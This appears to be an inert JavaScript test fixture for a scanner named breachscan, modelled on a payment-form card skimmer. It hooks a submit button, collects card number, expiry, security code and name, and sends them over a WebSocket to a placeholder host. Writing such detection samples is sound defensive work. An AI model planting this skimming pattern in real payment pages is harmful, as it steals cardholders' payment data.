/* synthetic test sample for breachscan: 2020 municipal-portal skimmer shape - hooks the
 * payment form's submit button and sends card fields over a WebSocket. Inert (`if (false)`). */
if (false) {
  jQuery("#btnSubmitPayment").on("click", function () {
    var ws = new WebSocket("wss://collector.invalid/s");
    var p = { cardNumber: jQuery("#cardNumber").val(), expMonth: jQuery("#expMonth").val(),
              securityCode: jQuery("#securityCode").val(), name: jQuery("#nameOnCard").val() };
    ws.onopen = function () { ws.send(btoa(JSON.stringify(p))); };
  });
}
